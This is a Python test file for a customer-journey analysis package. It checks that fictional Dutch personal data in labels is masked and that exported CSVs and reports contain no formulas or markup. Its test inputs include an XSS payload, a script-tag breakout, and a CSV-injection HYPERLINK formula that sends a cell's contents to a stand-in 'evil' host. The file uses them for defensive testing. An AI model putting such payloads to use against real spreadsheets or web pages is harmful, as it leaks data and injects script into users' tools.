"""Labels that carry people, formulas or markup: nobody is named, nothing is executed."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

import cxmining as cx

PEOPLE = (
    "jan.jansen@example.nl", "JAN.JANSEN@EXAMPLE.NL", "jan.jansen%40example.nl", "06-12345678", "0612345678",
    "+31612345678", "871687120052345678", "NL91ABNA0417164300", "Maria de Wit",
)  # fmt: skip
HURTS = ("<img src=x onerror=alert(1)>", '=HYPERLINK("http://evil/?"&A1)', "@SUM(1)", "+1", "</script><b>")
STUDY = """
schema_version = 1
name = "h"
[[source]]
name = "calls"
path = "calls.csv"
format = "csv"
tz = "UTC"
attributes = ["segment", "mobile"]
columns = {timestamp = "t", touchpoint = "s", account = "k", queue = "q", channel = "c", url = "u"}
[[source]]
name = "crm"
path = "crm.csv"
format = "csv"
into = "customers"
columns = {account = "k", name = "name"}
attributes = ["mail", "segment"]
[drivers]
controls = ["segment", "mail"]
"""


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory):
    """One run of exports whose labels carry people, formulas and markup."""
    folder = _written(tmp_path_factory.mktemp("labels"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CXMINING_KEY", "0123456789abcdef-hostile")
        yield cx.run_study(folder, out=folder / "run", quiet=True)


def _written(tmp_path: Path) -> Path:
    labels = ["asks", "pays", *HURTS, *(f"mail to {p}" for p in PEOPLE), "/u?mail=jan.jansen@example.nl&tel=0612345678"]
    channels = ["phone", "jan.jansen@example.nl"]
    with (tmp_path / "calls.csv").open("w", newline="") as out:
        rows = csv.writer(out)
        rows.writerow(["k", "s", "t", "q", "c", "segment", "u", "mobile"])
        n = 0
        for customer in range(15):
            for label in labels:
                n += 1
                rows.writerow([
                    1000 + customer, label, f"2024-01-{1 + n % 28:02d} {n % 24:02d}:{n % 60:02d}:{n // 60:02d}",
                    labels[n * 7 % len(labels)], channels[n % 2], labels[n * 5 % len(labels)],
                    labels[n * 3 % len(labels)], f"316123456{customer:02d}",
                ])  # fmt: skip
    with (tmp_path / "crm.csv").open("w", newline="") as out:
        rows = csv.writer(out)
        rows.writerow(["k", "name", "mail", "segment"])
        rows.writerows([1000 + i, "Maria de Wit", f"klant{i}@example.nl", HURTS[i % 5]] for i in range(15))
    (tmp_path / "study.toml").write_text(STUDY)
    return tmp_path


def test_nobody_who_stands_in_a_label_stands_in_the_run(run):
    secrets = [p.lower() for p in (*PEOPLE, "@example.nl", "3161234560")]
    for file in sorted(p for p in run.path.rglob("*") if p.is_file()):
        text = pd.read_parquet(file).to_csv() if file.suffix == ".parquet" else file.read_text(encoding="utf-8")
        assert not [s for s in secrets if s in text.lower()], file.name
    assert any(note.startswith("masked in ") for note in run.manifest["notes"])


def test_no_cell_is_a_formula_and_no_label_is_markup(run):
    for file in run.path.rglob("*.csv"):
        with file.open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                for cell in row:
                    number = re.fullmatch(r"-?[\d.]+(?:e[+-]?\d+)?", cell)
                    assert number or not re.match(r"[=+@\t\r-]", cell), (file.name, cell)
    page = run.report.read_text(encoding="utf-8")
    assert "<img src=x" not in page
    assert "</script><b>" not in page


def test_labels_of_rules_and_given_names_alone_stay(tmp_path, monkeypatch):
    from cxmining.ingest.records.labels import mask_labels
    from cxmining.schema import Reading, table

    rows = ["Smart meter", "calls 0612345678", "for Anna Smart", "x" * 300]
    events = table(
        "events",
        {
            "event_id": list("abcd"), "timestamp": pd.to_datetime(["2024-01-01"] * 4, utc=True), "channel": ["web"] * 4,
            "touchpoint": rows, "source": ["s"] * 4, "seq": [1, 2, 3, 4], "costs": pd.array([123456782, 5, 6, 7], dtype="Int64"),
        },
    )  # fmt: skip
    ledger = table("ledger", {"source": [], "file": [], "seq": [], "record_id": [], "status": [], "reason": []})
    (masked,), notes = mask_labels([Reading("s", "csv", (), ledger, events=events)], ["Anna Smart"], [])
    assert masked.events["touchpoint"].tolist()[:3] == ["Smart meter", "calls [phone]", "for [name]"]
    assert len(masked.events["touchpoint"][3]) == 200
    assert masked.events["costs"].tolist() == [123456782, 5, 6, 7]  # one amount that checks as a BSN is an amount
    assert len(notes) == 2
    (kept,), _ = mask_labels([Reading("s", "csv", (), ledger, events=events)], [], ["calls 0612345678"])
    assert kept.events["touchpoint"][1] == "calls 0612345678"


def test_a_day_is_no_telephone_number():
    from cxmining.privacy import mask

    days = ["01-04-2012", "sinds 03-05-2024", "01.04.2012 10:30", "01/04/2012"]
    assert mask(pd.Series(days))[0].tolist() == days
    assert mask(pd.Series(["010-2012345", "06 12 34 56 78"]))[0].tolist() == ["[phone]", "[phone]"]
